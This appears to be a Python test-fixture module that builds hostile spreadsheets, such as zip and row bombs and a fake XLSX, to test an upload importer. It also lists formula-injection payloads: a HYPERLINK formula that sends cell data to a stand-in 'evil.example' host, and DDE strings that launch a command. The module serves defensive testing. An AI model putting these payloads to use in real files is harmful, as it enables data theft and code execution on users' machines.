"""Hostile spreadsheets, made by code (nothing large is committed): the files an attacker
or a bad day would upload, and the text cells that would run as formulas.

- :func:`dimension_bomb`: a 2 KB XLSX declaring a sheet of 1,048,576 rows by 16,384
  columns (a reader that trusts the dimension pads every row to it);
- :func:`row_bomb`: a small zip whose sheet inflates to millions of rows;
- :func:`dense_rows`: an XLSX of rows under the unzipped-size limit but over the row
  limit (only a streaming reader that stops early refuses it cheaply);
- :func:`not_a_zip`: a file named ``.xlsx`` that is not a zip archive;
- :func:`cp1252_csv`: a CSV saved by Excel in Italy (Windows-1252, ``;``).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from openpyxl import Workbook

FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&C2&D2,"Apri")',
    "+39 0881 123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""Names, addresses and room names that a spreadsheet program would run as formulas."""

_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _workbook(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _replace_sheet(
    book: bytes, sheet_xml: bytes | None = None, stream: object | None = None
) -> bytes:
    """``book`` with its first sheet's XML replaced (``stream`` writes it in chunks)."""
    src = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                if sheet_xml is not None:
                    dst.writestr(info.filename, sheet_xml)
                else:
                    with dst.open(info.filename, "w", force_zip64=True) as fh:
                        stream(fh)  # type: ignore[operator]
            else:
                dst.writestr(info, src.read(info.filename))
    return out.getvalue()


def dimension_bomb(path: Path) -> Path:
    book = _workbook([["given_name", "family_name"], ["Amadou", "Diallo"]])
    sheet = (
        _HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>given_name</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Amadou</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    path.write_bytes(_replace_sheet(book, sheet))
    return path


def row_bomb(path: Path, rows: int = 3_000_000) -> Path:
    """A sheet of ``rows`` rows (no ``r`` attributes: each row the same bytes)."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * 10_000

    def write(fh: io.BufferedWriter) -> None:
        fh.write((_HEAD + "<sheetData>").encode())
        for _ in range(rows // 10_000):
            fh.write(chunk)
        fh.write(b"</sheetData></worksheet>")

    path.write_bytes(_replace_sheet(_workbook([["x"]]), stream=write))
    return path


def dense_rows(path: Path, rows: int = 200_000) -> Path:
    """Rows small enough to stay under the unzipped-size limit, too many to import."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'

    def write(fh: io.BufferedWriter) -> None:
        fh.write((_HEAD + "<sheetData>").encode())
        fh.write(row * rows)
        fh.write(b"</sheetData></worksheet>")

    path.write_bytes(_replace_sheet(_workbook([["x"]]), stream=write))
    return path


def not_a_zip(path: Path) -> Path:
    path.write_text("given_name,family_name\nAmadou,Diallo\n", encoding="utf-8")
    return path


def cp1252_csv(path: Path, rows: list[list[str]]) -> Path:
    path.write_bytes("\r\n".join(";".join(r) for r in rows).encode("cp1252") + b"\r\n")
    return path
